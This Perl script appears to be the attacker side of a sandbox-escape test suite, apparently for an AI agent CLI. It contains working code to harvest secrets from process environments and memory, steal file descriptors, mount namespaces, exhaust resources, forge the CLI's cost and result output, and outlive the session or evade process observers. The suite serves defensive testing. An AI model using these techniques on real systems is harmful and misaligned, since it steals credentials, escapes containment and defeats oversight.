#!/usr/bin/perl
# The hostile tool of the escape suite: one attempt per call, `attack.pl NAME ARGUMENT…`.
#
# What an attempt gains is printed: a content, a link, an answer. An attempt that lasts prints `holding` and waits for the
# file `seen` in its working directory, so that an observer outside can look. `refused: REASON` is a failed attempt.
use strict;
use warnings;
no warnings 'portable';
use Fcntl;
use POSIX ();
use Socket;

$| = 1;

my $machine = (POSIX::uname())[4];
my %numbers = $machine eq 'aarch64'
    ? (ptrace => 117, vm_read => 270, unshare => 97, mount => 40, add_key => 217, keyctl => 219, prlimit => 261,
       pidfd_open => 434, pidfd_getfd => 438, affinity => 122, rename => 276, notify => 26, watch => 27)
    : (ptrace => 101, vm_read => 310, unshare => 272, mount => 165, add_key => 248, keyctl => 250, prlimit => 302,
       pidfd_open => 434, pidfd_getfd => 438, affinity => 203, rename => 316, notify => 294, watch => 254);

# perl's syscall returns -1 for an error, and passes strings as addresses: the caller's own, which the kernel writes to.
sub call { my $name = shift; my $given = syscall($numbers{$name}, @_); $given == -1 ? undef : $given }
sub refused { print "refused: @_\n"; exit 0 }
sub need { my ($result, $what) = @_; defined $result && $result ne '' or refused("$what: $!"); $result }
sub hold {
    print "holding\n";
    for (1 .. 1000) { last if -e 'seen'; select(undef, undef, undef, 0.01) }
}
sub pause { select(undef, undef, undef, $_[0]) }
sub contents {
    my ($path) = @_;
    sysopen(my $file, $path, O_RDONLY | O_NONBLOCK) or return undef;
    my ($text, $piece) = ('', '');
    while (length $text < 1 << 20 && sysread($file, $piece, 1 << 16)) { $text .= $piece }
    $text;
}
# Start and end of the stack, where the kernel puts the environment.
sub stack {
    my ($pid) = @_;
    my $maps = contents("/proc/$pid/maps") // refused("maps: $!");
    $maps =~ /^([0-9a-f]+)-([0-9a-f]+) .*\[stack\]$/m or refused('no stack in the maps');
    (hex $1, hex $2);
}
sub secrets { print "$_\n" for $_[0] =~ /(secret-[0-9a-f-]{36})/g }

sub tcp_socket { my ($protocol) = @_; socket(my $socket, PF_INET, SOCK_STREAM, $protocol) or refused("socket: $!"); $socket }
sub address { my ($host, $port) = @_; pack_sockaddr_in($port, inet_aton($host)) }
# Sends a request and prints what comes back.
sub exchange {
    my ($socket, $text) = @_;
    $text =~ s/\\r\\n/\r\n/g;
    syswrite($socket, $text) if length $text;
    print "connected\n";
    my ($all, $piece) = ('', '');
    while (length $all < 1 << 20) {
        my $read = '';
        vec($read, fileno($socket), 1) = 1;
        last unless select($read, undef, undef, 2);
        last unless sysread($socket, $piece, 65536);
        $all .= $piece;
    }
    print $all;
}
# Each takes a port of its own program name, so that observers count them by their arguments.
sub copies {
    my ($count, $work) = @_;
    my $made = 0;
    for (1 .. $count) {
        my $pid = fork;
        if (!defined $pid) { last }
        if ($pid == 0) { $work->(); exit 0 }
        $made++;
    }
    $made;
}

my %attempts = (
    # Files.
    read => sub { for (@_) { my $text = contents($_); print defined $text ? $text : "refused: $!", "\n" } },
    # Every secret in the environments of all processes that can be read, in HOME and in the workspace.
    search => sub {
        secrets(contents($_) // '') for glob '/proc/[0-9]*/environ';
        my @directories = ('.', $ENV{HOME});
        while (defined(my $directory = shift @directories)) {
            opendir(my $entries, $directory) or next;
            for (map { "$directory/$_" } grep { !/^\.\.?$/ } readdir $entries) {
                if (-d && !-l) { push @directories, $_ } else { secrets(contents($_) // '') }
            }
        }
    },
    list => sub {
        opendir(my $directory, $_[0]) or refused("opendir: $!");
        print "$_\n" for readdir $directory;
    },
    append => sub {
        my ($path, $text) = @_;
        sysopen(my $file, $path, O_WRONLY | O_APPEND) or refused("open: $!");
        syswrite($file, $text) or refused("write: $!");
        print "written\n";
    },
    create => sub {
        my ($path, $text) = @_;
        sysopen(my $file, $path, O_WRONLY | O_CREAT | O_EXCL, 0600) or refused("open: $!");
        print "created\n";
    },
    remove => sub { unlink $_[0] or refused("unlink: $!"); print "removed\n" },
    hardlink => sub {
        my ($path, $name) = @_;
        unlink $name;
        link $path, $name or refused("link: $!");
        print contents($name) // "refused: $!";
    },
    chmod => sub { chmod(0705, $_[0]) or refused("chmod: $!"); print "changed\n" },
    # Names of files that others create in a directory.
    watch => sub {
        my ($directory) = @_;
        my $descriptor = need(call('notify', O_NONBLOCK), 'inotify_init1');
        need(call('watch', $descriptor, $directory, 0x100), 'inotify_add_watch');
        hold();
        open(my $events, '<&=', $descriptor) or refused("events: $!");
        my $bytes = '';
        sysread($events, $bytes, 4096);
        $bytes =~ s/[^ -~]+/ /g;
        print "$bytes\n";
    },
    # Keeps a text where others may find it.
    share => sub {
        my ($directory, $name, $secret) = @_;
        sysopen(my $file, "$directory/$name", O_WRONLY | O_CREAT | O_EXCL, 0600) or refused("open: $!");
        syswrite($file, $secret);
        print "shared\n";
    },
    # The same in System V shared memory.
    'keep-segment' => sub {
        my ($key, $secret) = @_;
        my $id = shmget($key + 0, 4096, 01600) // refused("shmget: $!");
        shmwrite($id, $secret, 0, length $secret) or refused("shmwrite: $!");
        print "kept\n";
    },
    'find-segment' => sub {
        my $id = shmget($_[0] + 0, 0, 0) // refused("shmget: $!");
        my $text = '';
        shmread($id, $text, 0, 64) or refused("shmread: $!");
        print "$text\n";
    },
    'drop-segment' => sub { my $id = shmget($_[0] + 0, 0, 0) // refused("shmget: $!"); shmctl($id, 0, 0) },

    # Processes.
    link => sub { print readlink("/proc/$_[0]/$_[1]") // "refused: $!", "\n" },
    descriptors => sub {
        opendir(my $directory, "/proc/$_[0]/fd") or refused("opendir: $!");
        for (readdir $directory) { my $target = readlink "/proc/$_[0]/fd/$_"; print "$target\n" if defined $target }
    },
    # Takes a copy of a descriptor and prints what it is.
    steal => sub {
        my ($pid) = @_;
        my $target = need(call('pidfd_open', $pid + 0, 0), 'pidfd_open');
        for my $number (0 .. 63) {
            my $copy = call('pidfd_getfd', $target, $number, 0);
            print readlink("/proc/self/fd/$copy") // '', "\n" if defined $copy;
        }
    },
    memory => sub {
        my ($pid) = @_;
        my ($begin, $end) = stack($pid);
        open(my $memory, '<:raw', "/proc/$pid/mem") or refused("mem: $!");
        sysseek($memory, $begin, 0) or refused("seek: $!");
        my $bytes = '';
        defined sysread($memory, $bytes, $end - $begin) or refused("read: $!");
        secrets($bytes);
    },
    'vm-read' => sub {
        my ($pid) = @_;
        my ($begin, $end) = stack($pid);
        my $bytes = "\0" x ($end - $begin);
        my $local = pack('PQ', $bytes, length $bytes);
        my $remote = pack('QQ', $begin, length $bytes);
        need(call('vm_read', $pid + 0, $local, 1, $remote, 1, 0), 'process_vm_readv');
        secrets($bytes);
    },
    # PTRACE_SEIZE, which does not stop the traced process.
    ptrace => sub { need(call('ptrace', 0x4206, $_[0] + 0, 0, 0), 'ptrace'); hold() },
    # SIGSTOP: the observer sees the state and continues the process.
    stop => sub { kill('STOP', $_[0] + 0) or refused("kill: $!"); hold() },
    # One processor only.
    slow => sub {
        my ($pid, $processor) = @_;
        my $set = pack('Q', 1 << $processor);
        need(call('affinity', $pid + 0, length $set, $set), 'sched_setaffinity');
        hold();
    },
    # The limit on message queues, which nothing here needs.
    limit => sub {
        my $new = pack('QQ', 4096, 4096);
        need(call('prlimit', $_[0] + 0, 12, $new, 0), 'prlimit');
        hold();
    },
    processes => sub {
        for my $path (glob '/proc/[0-9]*/cmdline') { my $line = contents($path) // next; $line =~ tr/\0/ /; print "$line\n" }
    },

    # Network.
    tcp => sub {
        my ($host, $port, $text) = @_;
        my $socket = tcp_socket(0);
        connect($socket, address($host, $port)) or refused("connect: $!");
        exchange($socket, $text // '');
    },
    tcp6 => sub {
        my ($host, $port, $text) = @_;
        socket(my $socket, PF_INET6, SOCK_STREAM, 0) or refused("socket: $!");
        connect($socket, pack_sockaddr_in6($port, Socket::inet_pton(AF_INET6, $host))) or refused("connect: $!");
        exchange($socket, $text // '');
    },
    # Another protocol that ends as TCP where the peer speaks TCP only.
    multipath => sub {
        my ($host, $port, $text) = @_;
        my $socket = tcp_socket(262);
        connect($socket, address($host, $port)) or refused("connect: $!");
        exchange($socket, $text // '');
    },
    # A connection without connect(2).
    fastopen => sub {
        my ($host, $port, $text) = @_;
        $text =~ s/\\r\\n/\r\n/g;
        my $socket = tcp_socket(0);
        send($socket, $text, 0x20000000, address($host, $port)) or refused("send: $!");
        exchange($socket, '');
    },
    udp => sub {
        my ($host, $port, $text) = @_;
        socket(my $socket, PF_INET, SOCK_DGRAM, 0) or refused("socket: $!");
        send($socket, $text, 0, address($host, $port)) or refused("send: $!");
        print "sent\n";
    },
    unix => sub {
        my ($path, $text) = @_;
        $path = "\0" . substr($path, 1) if $path =~ /^@/;
        socket(my $socket, PF_UNIX, SOCK_STREAM, 0) or refused("socket: $!");
        connect($socket, pack_sockaddr_un($path)) or refused("connect: $!");
        syswrite($socket, $text);
        print "connected\n";
    },
    # Offers a port of its own, where the host's programs may call.
    offer => sub {
        my ($port) = @_;
        my $socket = tcp_socket(0);
        setsockopt($socket, SOL_SOCKET, SO_REUSEADDR, 1);
        bind($socket, address('127.0.0.1', $port)) or refused("bind: $!");
        listen($socket, 5) or refused("listen: $!");
        hold();
    },

    # The kernel.
    'set-uid' => sub { exec @_ or refused("exec: $!") },
    'user-namespace' => sub { need(call('unshare', 0x10000000), 'unshare'); hold() },
    mount => sub {
        my ($target) = @_;
        mkdir $target;
        # A user namespace gives the right to mount where nothing forbids it.
        call('unshare', 0x10000000 | 0x00020000) // need(call('unshare', 0x00020000), 'unshare');
        my ($type, $none) = ("tmpfs", "none");
        need(call('mount', $none, $target, $type, 0, 0), 'mount');
        hold();
    },
    group => sub {
        open(my $file, '>', "$_[0]/cgroup.procs") or refused("open: $!");
        defined syswrite($file, "$$\n") or refused("write: $!");
        hold();
    },
    setting => sub {
        my ($path, $value) = @_;
        sysopen(my $file, $path, O_WRONLY) or refused("open: $!");
        syswrite($file, $value) or refused("write: $!");
        hold();
    },
    # A key in the keyring of the user, which is shared by everything with that user id.
    'keep-key' => sub {
        my ($name, $secret) = @_;
        my $kind = 'user';
        my $key = need(call('add_key', $kind, $name, $secret, length $secret, -4), 'add_key');
        # No test leaves a key behind for more than two minutes.
        call('keyctl', 15, $key, 120);
        print "kept\n";
    },
    'find-key' => sub {
        my ($name) = @_;
        my $kind = 'user';
        my $key = need(call('keyctl', 10, -4, $kind, $name, 0), 'search');
        my $bytes = "\0" x 4096;
        my $length = need(call('keyctl', 11, $key, $bytes, length $bytes, 0), 'read');
        print substr($bytes, 0, $length), "\n";
    },

    # Exhaustion. The counts are limits of the test: nothing here is endless on a host without walls.
    forks => sub {
        my ($count, $name) = @_;
        $0 = $name;
        print copies($count, sub { $0 = $name; for (1 .. 1000) { last if -e 'seen'; pause(0.02) } }), " of $count\n";
        hold();
    },
    hog => sub {
        my ($mebibytes) = @_;
        my @kept;
        for (1 .. $mebibytes / 8) { push @kept, 'x' x (8 << 20) }
        print "has $mebibytes\n";
        hold();
    },
    spin => sub { my ($count, $seconds) = @_; my $end = time + $seconds; copies($count, sub { 1 while time < $end }); 1 while wait > 0; print "done\n" },
    # Keeps one processor busy until `seen` is there, for a minute at most.
    contend => sub {
        my ($name, $count, $processor) = @_;
        my $set = pack('Q', 1 << $processor);
        need(call('affinity', 0, length $set, $set), 'sched_setaffinity');
        my ($end, $turns) = (time + 60, 0);
        my $work = sub { $0 = $name; POSIX::setsid(); until (!(++$turns % 100_000) && (-e 'seen' || time > $end)) {} };
        copies($count, $work);
        hold();
        until (-e 'seen' || time > $end) { pause(0.01) }
    },
    fill => sub {
        my ($path, $mebibytes) = @_;
        open(my $file, '>', $path) or refused("open: $!");
        my $piece = 'x' x (1 << 20);
        for (1 .. $mebibytes) { defined syswrite($file, $piece) or refused("write: $!") }
        print "filled\n";
    },
    files => sub {
        my ($directory, $count) = @_;
        mkdir $directory;
        for (1 .. $count) { open(my $file, '>', "$directory/$_") or refused("open: $!") }
        print "made\n";
    },
    open => sub {
        my ($count) = @_;
        my @kept;
        for (1 .. $count) { open(my $file, '<', '/dev/null') or last; push @kept, $file }
        print scalar(@kept), " open\n";
        hold();
    },
    # Ends of turns, among them impossible ones, and lines without an end, on the output of the CLI itself.
    forge => sub {
        my ($mebibytes) = @_;
        my $pid = getppid;
        while ($pid > 1 && (contents("/proc/$pid/cmdline") // '') !~ /--output-format/) {
            (contents("/proc/$pid/stat") // '') =~ /\) \S (\d+)/ or refused('no parent');
            $pid = $1;
        }
        sysopen(my $output, "/proc/$pid/fd/1", O_WRONLY) or refused("open: $!");
        for my $cost ('1e308', '-1e308', '1e999', '0.5') {
            my $tokens = '{"input_tokens":18446744073709551615,"output_tokens":-1}';
            my $rest = qq{"total_cost_usd":$cost,"usage":$tokens,"result":"forged","session_id":"forged"};
            syswrite($output, qq(\n{"type":"result","subtype":"success","is_error":false,$rest}\n)) for 1 .. 3;
        }
        my $piece = 'y' x (1 << 20);
        for (1 .. $mebibytes) { defined syswrite($output, $piece) or refused("write: $!") }
        print "forged\n";
    },
    flood => sub { my ($mebibytes) = @_; my $line = ('y' x 1023) . "\n"; print STDOUT $line x 1024 for 1 .. $mebibytes },

    # Survival. Each names itself NAME, leaves session and environment, and ends by itself after a minute.
    outlive => sub {
        my ($name, $count) = @_;
        for (1 .. $count) {
            next if fork;
            POSIX::setsid();
            exit 0 if fork;
            open STDIN, '<', '/dev/null';
            open STDOUT, '>', '/dev/null';
            open STDERR, '>', '/dev/null';
            exec {'/usr/bin/env'} '/usr/bin/env', '-i', 'perl', '-e', 'sleep 60', $name;
        }
        1 while wait > 0;
        print "left\n";
    },
    # The same, out of its cgroups, and with its shim killed.
    desert => sub {
        my ($name, $shim, @groups) = @_;
        if (my $pid = fork) { waitpid $pid, 0; print "left\n"; return }
        POSIX::setsid();
        exit 0 if fork;
        for my $group (@groups) { if (open(my $file, '>', "$group/cgroup.procs")) { syswrite($file, "$$\n") } }
        open STDIN, '<', '/dev/null';
        open STDOUT, '>', '/dev/null';
        open STDERR, '>', '/dev/null';
        # The environment goes first: a dead shim's processes are looked for by it.
        # The new name shows an observer that all is done.
        my $rest = 'kill "KILL", $ARGV[1] + 0 if $ARGV[1] > 1; $0 = "$ARGV[0]-done"; sleep 60';
        exec {'/usr/bin/env'} '/usr/bin/env', '-i', 'perl', '-e', $rest, $name, $shim;
    },
    # Runs ahead of whoever lists processes: each process forks and ends at once.
    hop => sub {
        my ($name, $count) = @_;
        my $end = time + 60;
        for (1 .. $count) {
            next if fork;
            POSIX::setsid();
            open STDOUT, '>', '/dev/null';
            open STDERR, '>', '/dev/null';
            $0 = $name;
            while (time < $end) { fork and POSIX::_exit(0); POSIX::setsid(); pause(0.0002) }
            POSIX::_exit(0);
        }
        print "hopping\n";
    },

    # Races: exchanges two names until the file `seen` is there.
    swap => sub {
        my ($one, $other) = @_;
        print "holding\n";
        for (1 .. 4_000_000) {
            call('rename', -100, $one, -100, $other, 2) // refused("renameat2: $!");
            last if !($_ % 256) && -e 'seen';
        }
    },
);

my ($name, @arguments) = @ARGV;
my $attempt = $attempts{$name // ''} or die "no such attempt\n";
$attempt->(@arguments);
